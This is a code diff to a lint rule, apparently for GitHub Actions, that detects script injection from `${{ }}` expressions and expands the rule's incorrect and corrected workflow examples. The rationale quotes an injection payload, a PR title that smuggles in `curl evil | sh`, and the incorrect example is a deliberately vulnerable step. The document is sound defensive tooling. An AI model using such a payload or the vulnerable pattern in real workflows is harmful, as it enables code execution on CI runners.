@@ -53,8 +53,8 @@ export const rule: Rule<WorkflowModel> = {
     fixable: 'suggestion',
     docs: {
       rationale: '`${{ }}` is substituted into the script text before the shell runs it, so a PR title like `"; curl evil | sh #` becomes code. The standard fix is to put the value in `env:` and read the variable, which the shell never re-parses.',
-      incorrect: '- run: echo "${{ github.event.issue.title }}"',
-      correct: '- run: echo "$TITLE"\n  env:\n    TITLE: ${{ github.event.issue.title }}',
+      incorrect: 'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
+      correct: 'on: issues\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
       peers: ['actionlint expression (untrusted input)'],
     },
   },
